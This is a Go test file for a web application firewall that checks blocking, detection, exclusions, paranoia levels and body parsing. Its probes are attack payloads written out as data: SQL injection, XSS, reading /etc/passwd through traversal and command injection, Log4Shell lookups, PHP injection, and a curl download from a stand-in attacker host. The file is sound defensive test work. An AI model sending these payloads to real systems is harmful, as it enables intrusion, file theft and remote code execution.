package waf

import (
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

var (
	sqli    = [2]int{942000, 942999}
	xss     = [2]int{941000, 941999}
	lfi     = [2]int{930000, 930999}
	rce     = [2]int{932000, 932999}
	php     = [2]int{933000, 933999}
	java    = [2]int{944000, 944999}
	scanner = [2]int{913000, 913999}
)

// q builds path?key=value, encoded the way an HTTP client sends it.
func q(path, key, value string) string {
	return path + "?" + url.Values{key: {value}}.Encode()
}

const (
	jsonType = "application/json"
	formType = "application/x-www-form-urlencoded"
)

// attacks must be refused in block mode at paranoia 1; each has a benign twin
// in benignTwins that must pass untouched.
var attacks = []probe{
	{name: "sqli/query", target: q("/orders", "id", "1' OR '1'='1"), family: sqli},
	{name: "sqli/json", method: "POST", target: "/orders", ctype: jsonType,
		body: `{"sku":"A-1","qty":1,"note":"1' OR '1'='1"}`, family: sqli},
	{name: "sqli/json-nested", method: "POST", target: "/orders", ctype: "application/vnd.orders+json",
		body: `{"customer":{"name":"x' UNION SELECT password FROM users--"}}`, family: sqli},
	{name: "sqli/form", method: "POST", target: "/login", ctype: formType,
		body: url.Values{"username": {"admin' OR 1=1--"}, "password": {"x"}}.Encode(), family: sqli},
	{name: "xss/query", target: q("/search", "q", "<script>alert(1)</script>"), family: xss},
	{name: "xss/json", method: "POST", target: "/reviews", ctype: jsonType,
		body: `{"rating":5,"comment":"<script>alert(1)</script>"}`, family: xss},
	{name: "path-traversal/query", target: q("/files", "path", "../../etc/passwd"), family: lfi},
	{name: "command-injection/query", target: q("/ping", "host", "127.0.0.1;cat /etc/passwd"), family: rce},
	{name: "log4shell/header", target: "/orders", header: map[string]string{"X-Api-Version": "${jndi:ldap://x}"}, family: java},
	{name: "log4shell/json", method: "POST", target: "/orders", ctype: jsonType,
		body: `{"sku":"${jndi:ldap://attacker.example/a}"}`, family: java},
	{name: "scanner/user-agent", target: "/orders", header: map[string]string{"User-Agent": "sqlmap/1.7#stable (https://sqlmap.org)"}, family: scanner},
	{name: "php-injection/form", method: "POST", target: "/comments", ctype: formType,
		body: url.Values{"text": {"<?php system('id'); ?>"}}.Encode(), family: php},
	{name: "php-injection/query", target: q("/render", "tpl", "php://filter/convert.base64-encode/resource=index.php"), family: php},
	{name: "sqli/xml", method: "POST", target: "/orders", ctype: "application/xml",
		body: `<order><note>1' OR '1'='1</note></order>`, family: sqli},
	{name: "xss/multipart", method: "POST", target: "/profile", ctype: "multipart/form-data; boundary=XyZ",
		body: "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n", family: xss},
}

var benignTwins = []probe{
	{name: "sqli/query", target: q("/orders", "id", "1042")},
	{name: "sqli/json", method: "POST", target: "/orders", ctype: jsonType,
		body: `{"sku":"A-1","qty":2,"currency":"EUR","shipping":{"name":"Seán O'Brien","street":"12 Baker's Row","city":"Dublin"},"note":"Leave it at the door, it's fine. Call \"reception\" if closed."}`},
	{name: "sqli/json-nested", method: "POST", target: "/orders", ctype: "application/vnd.orders+json",
		body: `{"customer":{"name":"Zoë D'Angelo","tags":["vip","repeat-buyer"],"marketing":false}}`},
	{name: "sqli/form", method: "POST", target: "/login", ctype: formType,
		body: url.Values{"username": {"obrien"}, "password": {"correct-horse-battery-staple"}}.Encode()},
	{name: "xss/query", target: q("/search", "q", "O'Brien")},
	{name: "xss/json", method: "POST", target: "/reviews", ctype: jsonType,
		body: `{"rating":5,"comment":"**Great** product - I'd buy it again.\n\n* fast shipping\n* see [the docs](https://example.com/docs)"}`},
	{name: "path-traversal/query", target: q("/files", "path", "reports/2026/q3-summary.pdf")},
	{name: "command-injection/query", target: q("/ping", "host", "127.0.0.1")},
	{name: "log4shell/header", target: "/orders", header: map[string]string{"X-Api-Version": "2026-01-01"}},
	{name: "log4shell/json", method: "POST", target: "/orders", ctype: jsonType, body: `{"sku":"ORD-2026-000123"}`},
	{name: "scanner/user-agent", target: "/orders", header: map[string]string{"User-Agent": "acme-billing/2.3 (+https://acme.example)"}},
	{name: "php-injection/form", method: "POST", target: "/comments", ctype: formType,
		body: url.Values{"text": {"How do I sort an array in PHP? It's for O'Reilly's book."}}.Encode()},
	{name: "php-injection/query", target: q("/render", "tpl", "invoice-summary")},
	{name: "sqli/xml", method: "POST", target: "/orders", ctype: "application/xml",
		body: `<order><note>Deliver to Seán O'Brien, it's urgent</note><qty>2</qty></order>`},
	{name: "xss/multipart", method: "POST", target: "/profile", ctype: "multipart/form-data; boundary=XyZ",
		body: "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\nI write *Go* & enjoy O'Reilly books.\r\n--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n"},
	// Routes of a REST API, not twins of one attack.
	{name: "uuid-path", target: "/orders/9b2f6c1e-5d8a-4c3b-9e7f-2a1b3c4d5e6f"},
	{name: "rest/put", method: "PUT", target: "/orders/9b2f6c1e-5d8a-4c3b-9e7f-2a1b3c4d5e6f", ctype: jsonType, body: `{"qty":3}`},
	{name: "rest/patch", method: "PATCH", target: "/orders/9b2f6c1e-5d8a-4c3b-9e7f-2a1b3c4d5e6f", ctype: "application/merge-patch+json", body: `{"note":null}`},
	{name: "rest/delete", method: "DELETE", target: "/orders/9b2f6c1e-5d8a-4c3b-9e7f-2a1b3c4d5e6f"},
	{name: "search/obrien-full-name", target: "/customers?name=Se%C3%A1n+O%27Brien&sort=-created_at&limit=50"},
}

func TestAttackTableBlockPL1(t *testing.T) {
	srv := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, Paranoia: 1}))
	for _, p := range attacks {
		t.Run("attack/"+p.name, func(t *testing.T) {
			o := send(t, srv, p)
			if o.status != http.StatusForbidden {
				t.Fatalf("not refused: %v", o)
			}
			if !o.matched || !o.hasRuleIn(p.family) {
				t.Errorf("refused, but without a rule in %d-%d: %v", p.family[0], p.family[1], o)
			}
			t.Logf("%v", o)
		})
	}
	for _, p := range benignTwins {
		t.Run("benign/"+p.name, func(t *testing.T) {
			o := send(t, srv, p)
			if o.status != http.StatusOK || o.matched || o.score != 0 {
				t.Fatalf("benign request flagged: %v", o)
			}
		})
	}
}

func TestAttackTableDetect(t *testing.T) {
	srv := startInspector(t, mustWAF(t, Config{Mode: ModeDetect, Paranoia: 1}))
	for _, p := range attacks {
		t.Run(p.name, func(t *testing.T) {
			o := send(t, srv, p)
			if o.status != http.StatusOK {
				t.Fatalf("detect mode refused a request: %v", o)
			}
			if !o.matched || !o.hasRuleIn(p.family) || o.score < DefaultInboundThreshold {
				t.Errorf("detect mode did not report the attack: %v", o)
			}
		})
	}
}

func TestOffModePassesEverything(t *testing.T) {
	w := mustWAF(t, Config{Mode: ModeOff})
	srv := startInspector(t, w)
	for _, p := range attacks[:3] {
		if o := send(t, srv, p); o.status != http.StatusOK || o.matched {
			t.Errorf("%s: off mode reported %v", p.name, o)
		}
	}
}

func TestExclusions(t *testing.T) {
	sqliQuery, xssQuery := attacks[0], attacks[4]
	base := startInspector(t, mustWAF(t, Config{Mode: ModeBlock}))
	o := send(t, base, sqliQuery)
	if o.status != http.StatusForbidden {
		t.Fatalf("baseline: %v", o)
	}

	t.Run("by rule id", func(t *testing.T) {
		// Exclude exactly the rules that fired on the baseline.
		srv := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, ExcludeRuleIDs: o.rules}))
		if got := send(t, srv, sqliQuery); got.status != http.StatusOK || got.score != 0 {
			t.Errorf("excluding %v did not let the request through: %v", o.rules, got)
		}
		if got := send(t, srv, xssQuery); got.status != http.StatusForbidden {
			t.Errorf("exclusion of SQLi rules let XSS through: %v", got)
		}
	})
	for _, tag := range []string{"attack-sqli", "OWASP_CRS/ATTACK-SQLI", "capec/1000/152/248/66"} {
		t.Run("by tag "+tag, func(t *testing.T) {
			srv := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, ExcludeTags: []string{tag}}))
			if got := send(t, srv, sqliQuery); got.status != http.StatusOK {
				t.Errorf("excluding tag %s did not let the request through: %v", tag, got)
			}
			if got := send(t, srv, xssQuery); got.status != http.StatusForbidden {
				t.Errorf("excluding tag %s let XSS through: %v", tag, got)
			}
		})
	}
}

// At paranoia 1 names like O'Brien pass (see benignTwins), and at paranoia 2
// too. But PL2 rule 942200 ("comment-/space-obfuscated injections and
// backtick termination") flags ordinary English with a comma followed later
// by an apostrophe, in a query or a JSON string: a known false positive,
// fixed by excluding the rule.
func TestParanoia2FalsePositiveAndExclusion(t *testing.T) {
	order := probe{name: "order note", method: "POST", target: "/orders", ctype: jsonType,
		body: `{"sku":"A-1","note":"Leave it at the door, it's fine"}`}
	pl2 := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, Paranoia: 2}))
	o := send(t, pl2, order)
	if o.status != http.StatusForbidden || !slices.Contains(o.rules, 942200) {
		t.Skipf("CRS no longer flags this at PL2 (%v); drop this known-false-positive test", o)
	}
	tuned := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, Paranoia: 2, ExcludeRuleIDs: []int{942200}}))
	if got := send(t, tuned, order); got.status != http.StatusOK {
		t.Errorf("excluding 942200 at PL2 did not fix the false positive: %v", got)
	}
}

// Paranoia 2 adds rules PL1 leaves out; these payloads pass PL1.
func TestParanoia2CatchesMore(t *testing.T) {
	probes := []probe{
		// AngularJS client-side template injection (941380, PL2).
		{name: "template-injection", target: q("/search", "q", "{{constructor.constructor('alert(1)')()}}")},
		{name: "template-probe", target: q("/search", "q", "{{7*7}}")},
		// Download-and-run with curl (931130 + 932236, PL2; PL1 knows only wget).
		{name: "curl", target: q("/ping", "host", "curl http://attacker.example/x.sh")},
	}
	pl1 := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, Paranoia: 1}))
	pl2 := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, Paranoia: 2}))
	caught := 0
	for _, p := range probes {
		o1, o2 := send(t, pl1, p), send(t, pl2, p)
		t.Logf("%s: PL1 %v | PL2 %v", p.name, o1, o2)
		if o1.status == http.StatusOK && o2.status == http.StatusForbidden {
			caught++
		}
	}
	if caught == 0 {
		t.Error("paranoia 2 refused nothing that paranoia 1 let through")
	}
}

func TestBodyHandling(t *testing.T) {
	srv := startInspector(t, mustWAF(t, Config{Mode: ModeBlock}))
	t.Run("malformed json is refused", func(t *testing.T) {
		// Unparsable JSON would leave ARGS empty and reach a lenient backend
		// uninspected.
		o := send(t, srv, probe{method: "POST", target: "/orders", ctype: jsonType, body: `{"sku":"A-1", "note": "1' OR '1'='1`})
		if o.status != http.StatusBadRequest || !slices.Contains(o.rules, RuleBodyParseFailure) {
			t.Errorf("got %v", o)
		}
	})
	t.Run("json charset parameter", func(t *testing.T) {
		o := send(t, srv, probe{method: "POST", target: "/orders", ctype: "application/json; charset=utf-8", body: attacks[1].body})
		if o.status != http.StatusForbidden {
			t.Errorf("got %v", o)
		}
	})
	t.Run("empty body is fine", func(t *testing.T) {
		if o := send(t, srv, probe{method: "POST", target: "/orders/1/cancel", ctype: jsonType}); o.status != http.StatusOK {
			t.Errorf("got %v", o)
		}
	})
	t.Run("malformed multipart is refused", func(t *testing.T) {
		o := send(t, srv, probe{method: "POST", target: "/profile", ctype: "multipart/form-data; boundary=XyZ",
			body: "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XyZ\r\nbroken header line\r\n\r\ny\r\n--XyZ--\r\n"})
		if o.status != http.StatusBadRequest && o.status != http.StatusForbidden {
			t.Errorf("got %v", o)
		}
	})
	t.Run("other content types", func(t *testing.T) {
		// Bodies of other types are not parsed; CRS 920420 refuses the
		// types themselves, so they cannot carry a payload past the WAF.
		p := probe{method: "POST", target: "/upload", ctype: "text/plain", body: "1' OR '1'='1"}
		if o := send(t, srv, p); o.status != http.StatusForbidden || !slices.Contains(o.rules, 920420) {
			t.Errorf("got %v", o)
		}
		// With 920420 excluded (a deliberate choice) they pass uninspected.
		lax := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, ExcludeRuleIDs: []int{920420}}))
		if o := send(t, lax, p); o.status != http.StatusOK {
			t.Errorf("with 920420 excluded: got %v", o)
		}
	})
	t.Run("two content types", func(t *testing.T) {
		// The +json allowance applies to a single Content-Type only.
		p := probe{method: "POST", target: "/orders", ctype: "application/vnd.api+json", body: `{"a":1}`}
		if o := send(t, srv, p); o.status != http.StatusOK {
			t.Fatalf("single +json: got %v", o)
		}
		p.extra = [][2]string{{"Content-Type", "text/plain"}}
		if o := send(t, srv, p); o.status != http.StatusForbidden {
			t.Errorf("two content types: got %v", o)
		}
	})

	small := startInspector(t, mustWAF(t, Config{Mode: ModeBlock, BodyLimit: 64}))
	pad := strings.Repeat("a", 100)
	t.Run("attack within the limit of a long body", func(t *testing.T) {
		o := send(t, small, probe{method: "POST", target: "/orders", ctype: jsonType, body: `{"q":"<script>alert(1)</script>","pad":"` + pad + `"}`})
		if o.status != http.StatusForbidden {
			t.Errorf("got %v", o)
		}
	})
	t.Run("truncated body is not a parse failure", func(t *testing.T) {
		o := send(t, small, probe{method: "POST", target: "/orders", ctype: jsonType, body: `{"pad":"` + pad + `"}`})
		if o.status != http.StatusOK {
			t.Errorf("got %v", o)
		}
	})
	t.Run("attack beyond the limit is not seen", func(t *testing.T) {
		// ProcessPartial by design: documents why BodyLimit should be at
		// least the listener's body limit for APIs that need full coverage.
		o := send(t, small, probe{method: "POST", target: "/orders", ctype: jsonType, body: `{"pad":"` + pad + `","q":"<script>alert(1)</script>"}`})
		if o.status != http.StatusOK {
			t.Errorf("got %v", o)
		}
	})
}
